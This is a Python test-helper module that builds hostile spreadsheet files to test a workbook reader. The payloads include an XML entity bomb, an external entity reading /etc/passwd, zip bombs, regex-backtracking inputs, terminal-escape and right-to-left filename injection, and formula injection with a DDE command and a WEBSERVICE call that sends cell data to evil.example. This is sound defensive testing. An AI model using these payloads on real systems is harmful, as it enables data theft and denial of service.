"""Hostile and broken files, made from the samples."""

from __future__ import annotations

import io
import os
import random
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from conftest import ROOT

from bcf_workbook.engine import table_sizes
from bcf_workbook.layout import placement_for
from bcf_workbook.reference import load_reference
from bcf_workbook.samples import sample
from support.edit_in_libreoffice import address

PETERBOROUGH = ROOT / "samples" / "peterborough-2014-16.xlsx"
CLEAN = ROOT / "samples" / "synthetic-hwb-001-clean.xlsx"


def another_template(path: Path) -> Path:
    """A workbook that is not the BCF template at all."""
    import openpyxl
    workbook = openpyxl.Workbook()
    workbook.active.title = "Budget 2015"
    workbook.save(path)
    return path


def parts(path: Path = PETERBOROUGH) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(contents: dict[str, bytes], target: Path) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in contents.items():
            archive.writestr(name, data)
    return target


def sheet_part(contents: dict[str, bytes], name: str) -> str:
    """The part name of a sheet, from the workbook's own list."""
    workbook = contents["xl/workbook.xml"].decode()
    index = re.findall(r'<sheet name="([^"]+)"', workbook).index(name) + 1
    return f"xl/worksheets/sheet{index}.xml"


def with_cell(contents: dict[str, bytes], sheet: str, cell: str, xml: str) -> dict[str, bytes]:
    """Replace (or add) one cell's XML in a sheet."""
    part = sheet_part(contents, sheet)
    text = contents[part].decode()
    pattern = re.compile(rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)', re.DOTALL)
    if pattern.search(text):
        text = pattern.sub(xml, text, count=1)
    else:
        row = re.sub(r"[A-Z]+", "", cell)
        text = re.sub(rf'(<row r="{row}"[^>]*>)', rf"\1{xml}", text, count=1)
    return {**contents, part: text.encode()}


def billion_laughs(target: Path) -> Path:
    contents = parts()
    bomb = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else
                                                   b"&lol;" * 10) for i in range(1, 10))
            + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<si><t>&lol9;</t></si></sst>")
    contents["xl/sharedStrings.xml"] = bomb
    return rezip(contents, target)


def external_entity(target: Path) -> Path:
    contents = parts()
    contents["xl/workbook.xml"] = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
                                   b'"file:///etc/passwd">]>' + contents["xl/workbook.xml"]
                                   .split(b"?>", 1)[1].replace(b"<sheets>", b"<sheets>&e;"))
    return rezip(contents, target)


def zip_bomb(target: Path, megabytes: int) -> Path:
    """A workbook whose first sheet decompresses to ``megabytes`` of blanks."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts().items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w") as stream:
            chunk = b" " * 2**20
            for _ in range(megabytes):
                stream.write(chunk)
    return target


def lying_sizes(source: Path, target: Path, part: str) -> Path:
    """The zip's directory claims ``part`` is 100 bytes; it is far larger."""
    data = bytearray(source.read_bytes())
    name = part.encode()
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
    struct.pack_into("<I", data, central + 24, 100)
    target.write_bytes(bytes(data))
    return target


#: The expenditure plan's first data row in the samples.
FIRST_SCHEME_ROW = 10


def huge_table(target: Path, rows: int) -> Path:
    """Peterborough with the expenditure table grown to ``rows`` rows."""
    contents = parts()
    part = sheet_part(contents, "3. HWB Expenditure Plan")
    head, _, tail = contents[part].decode().partition("<sheetData>")
    data, _, rest = tail.partition("</sheetData>")
    first = [row for row in data.split("</row>")
             if (number := re.search(r'<row r="(\d+)"', row)) and int(number[1]) < FIRST_SCHEME_ROW]
    buffer = io.StringIO()
    buffer.write(head + "<sheetData>" + "</row>".join(first) + "</row>")
    for row in range(FIRST_SCHEME_ROW, rows + FIRST_SCHEME_ROW):
        buffer.write(f'<row r="{row}"><c r="B{row}" t="inlineStr"><is><t>Scheme {row}</t></is></c>'
                     f'<c r="K{row}"><v>{row}</v></c></row>')
    buffer.write("</sheetData>" + rest)
    contents[part] = buffer.getvalue().encode()
    return rezip(contents, target)


def mutate(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    """One random damage to a byte string, and what it was."""
    data = bytearray(data)
    kind = rng.choice(["flip", "delete", "duplicate", "insert", "truncate", "digits", "tag"])
    if not data:
        return bytes(data), "empty"
    at = rng.randrange(len(data))
    if kind == "flip":
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] = rng.randrange(256)
    elif kind == "delete":
        del data[at:at + rng.randint(1, 200)]
    elif kind == "duplicate":
        data[at:at] = data[at:at + rng.randint(1, 400)]
    elif kind == "insert":
        data[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 40)))
    elif kind == "truncate":
        del data[at:]
    elif kind == "digits":
        data = bytearray(re.sub(rb"\d+", lambda m: rng.choice(
            [b"9" * rng.randint(1, 400), b"-1", b"1e400", b"nan", m.group(0)]), bytes(data),
            count=rng.randint(1, 50)))
    else:
        data[at:at] = rng.choice([b'<c r="XFD1048576"><v>1</v></c>', b"<f>1/0</f>",
                                  b'<c r="A1" t="e"><v>#REF!</v></c>', b"<row r=\"0\">",
                                  b'<c t="s"><v>999999</v></c>', b"<si><t>x</t></si>"])
    return bytes(data), f"{kind} at {at}"


_VALUES = [b"", b"0", b"-1", b"1e308", b"-0", b"3.14159", b"99999999999999999999", b"abc",
           b"#DIV/0!", b"#N/A", b"=1+1", b"n/a", b"1,234", b"(12)", b"12.5%", b"\xc3\xa9",
           b"TRUE", b"999999", b"Other", b"Joint", b"CCG Minimum Contribution", b"Red"]
_TYPES = [b'"s"', b'"str"', b'"b"', b'"e"', b'"n"', b'"inlineStr"']


def mutate_values(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    """Damage that keeps the XML well-formed: values, text and cell types; long
    runs of spaces and huge digit strings where numbers are read; one formula
    shared by thousands of cells."""
    kind = rng.choice(["values", "texts", "types", "drop-formulas", "formulas", "long-spaces",
                       "huge-digits", "fan-out"])
    count = rng.randint(1, 30)
    if kind == "values":
        data = re.sub(rb"<v>[^<]*</v>", lambda m: b"<v>" + rng.choice(_VALUES) + b"</v>"
                      if rng.random() < 0.2 else m.group(0), data, count=0)
    elif kind == "texts":
        data = _replace_texts(data, rng, lambda: rng.choice(_VALUES), 0.3)
    elif kind == "long-spaces":
        data = _replace_texts(data, rng, lambda: rng.choice([b"-", b"(", b"\xc2\xa3"]) + b" " * rng.randint(
            100, 40_000) + rng.choice([b"x", b"1", b")", b""]), 0.05)
    elif kind == "huge-digits":
        data = _replace_texts(data, rng, lambda: rng.choice([b"", b"-", b"1,"]) + b"9" * rng.randint(
            300, 40_000) + rng.choice([b"", b".5", b"%"]), 0.05)
    elif kind == "types":
        data = re.sub(rb't="[a-zA-Z]+"', lambda m: b"t=" + rng.choice(_TYPES)
                      if rng.random() < 0.2 else m.group(0), data)
    elif kind == "drop-formulas":
        data = re.sub(rb"<f>[^<]*</f>", b"", data, count=count)
    elif kind == "fan-out":
        data = _fan_out(data, rng.randint(1_000, 20_000))
    else:
        data = re.sub(rb"(<c [^>]*>)(<v>)", lambda m: m.group(1) + b"<f>SUM(A1:B2)</f>" + m.group(2)
                      if rng.random() < 0.1 else m.group(0), data)
    return data, kind


def _replace_texts(data: bytes, rng: random.Random, make: Callable[[], bytes], share: float) -> bytes:
    """Some ``<t>`` texts and ``<v>`` values replaced by what ``make`` makes."""
    return re.sub(rb"<(t|v)([^>]*)>[^<]*</(?:t|v)>", lambda m: b"<%s%s>%s</%s>" % (
        m.group(1), m.group(2), make(), m.group(1)) if rng.random() < share else m.group(0), data)


def _fan_out(data: bytes, cells: int) -> bytes:
    """The part's first formula made a shared master, and ``cells`` rows added
    below the sheet's own that share it."""
    data, found = re.subn(rb"<f>", b'<f t="shared" ref="A1:A2" si="90">', data, count=1)
    if not found or b"</sheetData>" not in data:
        return data
    rows = b"".join(b'<row r="%d"><c r="Z%d"><f t="shared" si="90"/><v>0</v></c></row>' % (row, row)
                    for row in range(100_000, 100_000 + cells))
    return data.replace(b"</sheetData>", rows + b"</sheetData>", 1)


# --- round two: attacks on time, memory, outputs and numbers (issue 16) ------------------
#
# Each maker takes its size, so that the tests can build a file just past a
# limit quickly and `benchmarks/attacks.py` can build the full-size attack.

#: A money input (2. HWB Funding Sources, first local authority, 2014/15).
def _sample_cell(key: str) -> tuple[str, str]:
    """Where Peterborough's sample holds ``key`` (sheet, cell)."""
    return address(placement_for(table_sizes(sample("peterborough", load_reference()))), key)


MONEY_CELL = _sample_cell("funding.local_authority.0.amounts.2014/15")
EMAIL_CELL = _sample_cell("hwb_id.contact_email")
HWB_CELL = _sample_cell("hwb_id.hwb")


def excel_escaped(text: str) -> str:
    """Text as Excel writes it in XML: markup escaped, and the control
    characters XML cannot hold (and CR, which XML would turn into LF) as ``_xHHHH_``."""
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return "".join(f"_x{ord(character):04X}_" if ord(character) < 32 and character not in "\t\n"
                   else character for character in text)


def with_text(target: Path, sheet_and_cell: tuple[str, str], text: str) -> Path:
    """Peterborough with one cell holding ``text`` as an inline string."""
    sheet, cell = sheet_and_cell
    escaped = excel_escaped(text)
    return rezip(with_cell(parts(), sheet, cell, f'<c r="{cell}" t="inlineStr"><is><t xml:space='
                                                 f'"preserve">{escaped}</t></is></c>'), target)


def backtracking_number(target: Path, spaces: int = 2000) -> Path:
    """A money cell holding '-', a run of spaces and 'x': six overlapping
    ``\\s*`` in a number pattern try every split of the spaces."""
    return with_text(target, MONEY_CELL, "-" + " " * spaces + "x")


def backtracking_email(target: Path, length: int = 32_000) -> Path:
    """A contact email of one '@', a long run of dots and another '@'."""
    return with_text(target, EMAIL_CELL, "a@" + "." * length + "@")


def long_digits(target: Path, digits: int = 4400) -> Path:
    """A money cell holding a number as text with thousands of digits."""
    return with_text(target, MONEY_CELL, "9" * digits)


def overflowing_number(target: Path) -> Path:
    """A money cell whose text is a number too large for a double."""
    return with_text(target, MONEY_CELL, "9" * 400 + ".5")


def _append_rows(contents: dict[str, bytes], sheet: str, rows: bytes) -> dict[str, bytes]:
    """``rows`` (XML of whole rows, numbered past the template's) added to a sheet."""
    part = sheet_part(contents, sheet)
    head, _, tail = contents[part].partition(b"</sheetData>")
    return {**contents, part: head + rows + b"</sheetData>" + tail}


def shared_formula_fanout(target: Path, cells: int = 100_000, length: int = 1900) -> Path:
    """One shared formula of ``length`` characters filling ``cells`` cells."""
    terms = "+".join(f"B{row}" for row in range(1, length // 4))
    master = (terms + "+1" * length)[:length]
    first = 1000
    rows = [f'<row r="{first}"><c r="Z{first}" t="str"><f t="shared" ref="Z{first}:Z{first + cells}" '
            f'si="77">{master}</f><v>x</v></c></row>'.encode()]
    rows += [b'<row r="%d"><c r="Z%d" t="str"><f t="shared" si="77"/><v>x</v></c></row>' % (row, row)
             for row in range(first + 1, first + cells)]
    return rezip(_append_rows(parts(), "7. Projections", b"".join(rows)), target)


def _repeated_around(noise: bytes, before: bytes, after: bytes = b"") -> bytes:
    """``before + one byte of noise + after`` for each byte of ``noise``,
    built at C speed (tens of millions of elements in seconds)."""
    template = before + b"?" + after
    out = bytearray(len(template) * len(noise))
    for offset, byte in enumerate(template):
        out[offset::len(template)] = noise if offset == len(before) else bytes([byte]) * len(noise)
    return bytes(out)


def many_shared_strings(target: Path, count: int = 13_000_000) -> Path:
    """The shared strings part holding ``count`` two-letter strings (each its
    own object: Python shares only one-letter ones), the second letter random
    so that the part compresses less than the zip-bomb ratio."""
    contents = parts()
    head, _, tail = contents["xl/sharedStrings.xml"].partition(b"</sst>")
    letters = random.Random(13).randbytes(count).translate(bytes(97 + byte % 16 for byte in range(256)))
    contents["xl/sharedStrings.xml"] = head + _repeated_around(letters, b"<si><t>s", b"</t></si>") \
        + b"</sst>" + tail
    return rezip(contents, target)


#: Random bytes to letters: mostly 'a', one in fifty another letter.
_NOISY = bytes(97 if byte < 251 else 98 + byte % 5 for byte in range(256))


def _noisy_text(length: int, rng: random.Random) -> bytes:
    """Letters that compress about 50:1, far from the zip-bomb ratio."""
    return rng.randbytes(length).translate(_NOISY)


def huge_parts(target: Path, sheets: int = 4, megabytes: int = 255) -> Path:
    """``sheets`` of the sheets the reader reads each grown to about ``megabytes``
    MiB of long inline strings, every part under the size and ratio limits."""
    rng = random.Random(16)
    contents = parts()
    names = ["3. HWB Expenditure Plan", "4. HWB Benefits Plan", "6. HWB Supporting Metrics",
             "7. Projections"][:sheets]
    cells = megabytes * 2**20 // 30_060
    for name in names:
        rows = b"".join(b'<row r="%d"><c r="Z%d" t="inlineStr"><is><t>%s</t></is></c></row>'
                        % (row, row, _noisy_text(30_000, rng)) for row in range(1000, 1000 + cells))
        contents = _append_rows(contents, name, rows)
    return rezip(contents, target)


def many_sheets(target: Path, count: int = 1_000_000) -> Path:
    """A workbook listing ``count`` sheets (none of them present)."""
    contents = parts()
    listed = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rIdX%d"/>' % (n, n + 100, n)
                      for n in range(count))
    contents["xl/workbook.xml"] = contents["xl/workbook.xml"].replace(b"</sheets>", listed + b"</sheets>")
    return rezip(contents, target)


def empty_cells(target: Path, count: int = 30_000_000) -> Path:
    """A sheet holding ``count`` empty ``<c/>`` in one row, with random
    whitespace between them so that the part is not a zip bomb."""
    noise = random.Random(30).randbytes(count).translate(bytes(b" \n\t\r"[byte % 4]
                                                               for byte in range(256)))
    row = b'<row r="1000">' + _repeated_around(noise, b"<c/>") + b"</row>"
    return rezip(_append_rows(parts(), "7. Projections", row), target)


def odd_named_copies(folder: Path, source: Path = CLEAN) -> list[Path]:
    """Copies of a clean submission named with bytes that are not UTF-8 and
    with terminal escape sequences."""
    names = [b"caf\xe9-latin1.xlsx", b"\x1b[2J\x1b]0;owned\x07\x1b[32mFAKE\x1b[0m.xlsx",
             "\u202eslx.evil.xlsx".encode()]
    made = []
    for name in names:
        path = Path(os.fsdecode(os.path.join(os.fsencode(folder), name)))
        path.write_bytes(source.read_bytes())
        made.append(path)
    return made


def deep_folder(root: Path, depth: int = 1500, source: Path = CLEAN) -> Path:
    """A workbook at the bottom of ``depth`` nested folders, and a link from
    the bottom back to the top (a loop)."""
    root.mkdir(parents=True, exist_ok=True)
    descriptor = os.open(root, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=descriptor)
            inner = os.open("d", os.O_RDONLY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = inner
        with open(os.open("bottom.xlsx", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor),
                  "wb") as handle:
            handle.write(source.read_bytes())
        os.symlink(os.path.abspath(root), "loop", dir_fd=descriptor)
    finally:
        os.close(descriptor)
    return root


def remove_tree(root: Path) -> None:
    """Remove a folder however deep, without recursion (``shutil.rmtree`` and
    pytest's clean-up of old temporary folders recurse, and fail on ``deep_folder``)."""
    pending = [Path(root)]
    while pending:
        current = pending[-1]
        entries = list(os.scandir(current))
        folders = [Path(entry.path) for entry in entries if entry.is_dir(follow_symlinks=False)]
        if folders:
            pending.extend(folders)
            continue
        for entry in entries:
            os.unlink(entry.path)
        os.rmdir(current)
        pending.pop()


def injected_names(target: Path) -> Path:
    """An HWB name holding a carriage return, a line feed, a C1 control, an
    escape sequence and a right-to-left override, forging report lines."""
    text = ("Peterborough\r\nFAKE.xlsx (Peterborough): 0 errors\n# Heading\x85\x9b31m"
            "\x1b[2J\u202egnp.exe")
    return with_text(target, HWB_CELL, text)


#: Formulas an attacker would like a spreadsheet to run.
LIVE_FORMULAS = {"C11": "cmd|' /C calc'!A0", "D11": 'WEBSERVICE("http://evil.example/?"&C5)',
                 "C21": 'HYPERLINK("http://evil.example","Click")'}


def live_formula_overrides(target: Path) -> Path:
    """Derived cells of '2. HWB Funding Sources' holding the attacker's
    formulas, which ``write(read(f))`` must not write back as formulas."""
    contents = parts()
    for cell, formula in LIVE_FORMULAS.items():
        escaped = formula.replace("&", "&amp;").replace('"', "&quot;")
        contents = with_cell(contents, "2. HWB Funding Sources", cell,
                             f'<c r="{cell}"><f>{escaped}</f><v>0</v></c>')
    return rezip(contents, target)
